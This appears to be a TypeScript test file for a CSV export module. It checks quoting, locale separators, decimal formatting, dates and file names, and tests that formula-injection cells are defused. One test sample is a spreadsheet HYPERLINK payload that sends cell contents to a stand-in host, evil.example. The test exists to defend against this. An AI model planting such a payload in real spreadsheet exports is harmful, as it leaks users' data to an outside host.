import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BCP47, LANGS } from '../../shared/locales.ts';
import {
  CSV_BOM,
  csvDateTime,
  csvField,
  csvFileName,
  csvFormatFor,
  csvNumber,
  csvTimeHeader,
  writeCsv,
  type CsvFormat,
} from './csv.ts';

const COMMA: CsvFormat = { separator: ',', decimal: '.' };
const SEMICOLON: CsvFormat = { separator: ';', decimal: ',' };
const FORMATS = fc.constantFrom(COMMA, SEMICOLON);

/**
 * A tiny, strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records; the BOM must be
 * there, and a CR or LF outside quotes that does not end a record fails (Excel breaks the line
 * at either alone), as does a quote inside an unquoted field.
 */
function readCsv(text: string, separator: string): string[][] {
  expect(text.startsWith(CSV_BOM)).toBe(true);
  const s = text.slice(CSV_BOM.length);
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < s.length) {
    const [field, next] = s[i] === '"' ? quotedField(s, i) : plainField(s, i, separator);
    row.push(field);
    if (s[next] === separator) i = next + 1;
    else if (s.startsWith('\r\n', next)) {
      rows.push(row);
      [row, i] = [[], next + 2];
    } else throw new Error(`${JSON.stringify(s[next])} after a field at ${next}`);
  }
  expect(row, 'the last record ends with CRLF').toEqual([]);
  return rows;
}

function quotedField(s: string, start: number): [string, number] {
  let field = '';
  for (let i = start + 1; ;) {
    const quote = s.indexOf('"', i);
    if (quote < 0) throw new Error(`a quote left open at ${start}`);
    field += s.slice(i, quote);
    if (s[quote + 1] !== '"') return [field, quote + 1];
    field += '"';
    i = quote + 2;
  }
}

function plainField(s: string, start: number, separator: string): [string, number] {
  let i = start;
  for (; i < s.length && s[i] !== separator && s[i] !== '\r' && s[i] !== '\n'; i += 1)
    if (s[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
  return [s.slice(start, i), i];
}

/** What a text cell reads as once written: formula starts carry an apostrophe. */
const defused = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** Strings full of what CSV and spreadsheets treat specially, and any code points. */
const hostileText = fc.oneof(
  fc.string({
    unit: fc.constantFrom('a', ' ', ',', ';', '"', '\r', '\n', '=', '+', '-', '@', '\t', "'"),
  }),
  fc.string({ unit: 'binary' }),
);

const table = fc
  .integer({ min: 1, max: 6 })
  .chain((width) =>
    fc.tuple(
      fc.array(hostileText, { minLength: width, maxLength: width }),
      fc.array(fc.array(hostileText, { minLength: width, maxLength: width }), { maxLength: 8 }),
    ),
  );

describe('writeCsv', () => {
  it('parses back to the same cells (text cells defused), with either separator', () => {
    fc.assert(
      fc.property(table, FORMATS, ([header, rows], format) => {
        const parsed = readCsv(writeCsv(header, rows, format), format.separator);
        expect(parsed).toEqual([header, ...rows].map((r) => r.map(defused)));
      }),
    );
  });

  it('writes any decimal with its own digits and the locale mark, unquoted and undefused', () => {
    const decimal = fc.record({
      sign: fc.constantFrom('', '-', '+'),
      whole: fc.stringMatching(/^\d{1,30}$/),
      fraction: fc.stringMatching(/^(\d{1,30})?$/),
    });
    fc.assert(
      fc.property(decimal, FORMATS, ({ sign, whole, fraction }, format) => {
        const text = fraction === '' ? `${sign}${whole}` : `${sign}${whole}.${fraction}`;
        const minus = sign === '-' ? '-' : '';
        const expected =
          fraction === '' ? `${minus}${whole}` : `${minus}${whole}${format.decimal}${fraction}`;
        expect(csvField(csvNumber(text), format)).toBe(expected);
        const [, [cell] = []] = readCsv(
          writeCsv(['n'], [[csvNumber(text)]], format),
          format.separator,
        );
        expect(cell).toBe(expected);
      }),
    );
  });

  it('adds zeros up to the least decimals asked for, never cuts or rounds', () => {
    expect(csvField(csvNumber('0.001', 4), COMMA)).toBe('0.0010');
    expect(csvField(csvNumber('-12.5', 8), SEMICOLON)).toBe('-12,50000000');
    expect(csvField(csvNumber('1000', 2), COMMA)).toBe('1000.00');
    expect(csvField(csvNumber('0.123456789', 2), COMMA)).toBe('0.123456789');
    expect(csvField(csvNumber('123456789012345678901234567890.000000001'), SEMICOLON)).toBe(
      '123456789012345678901234567890,000000001',
    );
  });

  it('writes exponent forms in plain digits and a non-number as (defused) text', () => {
    expect(csvField(csvNumber('1e-8'), COMMA)).toBe('0.00000001');
    expect(csvField(csvNumber('.5'), SEMICOLON)).toBe('0,5');
    expect(csvField(csvNumber('--'), COMMA)).toBe("'--");
    expect(csvField(csvNumber('=1+1'), COMMA)).toBe("'=1+1");
    expect(csvField(csvNumber(''), COMMA)).toBe('');
  });

  it('defuses hostile text cells and quotes what needs it', () => {
    const cells = [
      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      '+1',
      '-1.5',
      '@SUM(A1)',
      '\tx',
      '\rx',
      'say "hi"',
      'two\nlines',
      'a,b',
      'a;b',
      'x'.repeat(100_000),
    ];
    expect(cells.map((c) => csvField(c, COMMA))).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`,
      "'+1",
      "'-1.5",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
      '"say ""hi"""',
      '"two\nlines"',
      '"a,b"',
      'a;b',
      'x'.repeat(100_000),
    ]);
    expect(csvField('a,b', SEMICOLON)).toBe('a,b');
    expect(csvField('a;b', SEMICOLON)).toBe('"a;b"');
    // a negative amount written as a number stays a number
    expect(csvField(csvNumber('-1.5'), COMMA)).toBe('-1.5');
    expect(csvField(csvNumber('-1.5'), SEMICOLON)).toBe('-1,5');
  });

  it('starts with the BOM and ends every line with CRLF', () => {
    expect(
      writeCsv(['Time', 'Amount'], [['2026-11-28 10:00:00', csvNumber('-1.5')]], SEMICOLON),
    ).toBe('\uFEFFTime;Amount\r\n2026-11-28 10:00:00;-1,5\r\n');
  });
});

describe('csvFormatFor', () => {
  it('uses ";" and "," where the language writes a decimal comma, "," and "." elsewhere', () => {
    const formats = Object.fromEntries(LANGS.map((l) => [l, csvFormatFor(BCP47[l])]));
    for (const lang of ['de', 'pt', 'ru', 'spa'] as const) expect(formats[lang]).toEqual(SEMICOLON);
    for (const lang of ['en', 'kr', 'jp', 'zh', 'hk'] as const)
      expect(formats[lang]).toEqual(COMMA);
  });
});

describe('csvDateTime and csvFileName', () => {
  it('writes local "YYYY-MM-DD HH:mm:ss"', () => {
    expect(csvDateTime('2026-11-28 09:05:03')).toBe('2026-11-28 09:05:03');
    expect(csvDateTime(new Date(2026, 0, 2, 3, 4, 5).getTime())).toBe('2026-01-02 03:04:05');
    expect(csvDateTime('not a time')).toBe('not a time');
  });
  it('names the file by list and local day', () => {
    expect(csvFileName('orders', new Date(2026, 10, 28, 23, 59))).toBe(
      'bourse-orders-2026-11-28.csv',
    );
  });

  it('names the time zone of the local times in the time column title (issue 41)', () => {
    expect(csvTimeHeader('Time', 'Europe/Berlin')).toBe('Time (Europe/Berlin)');
    expect(csvTimeHeader('Время', '')).toBe('Время');
    expect(csvTimeHeader('Time')).toBe(
      `Time (${Intl.DateTimeFormat().resolvedOptions().timeZone})`,
    );
  });
});
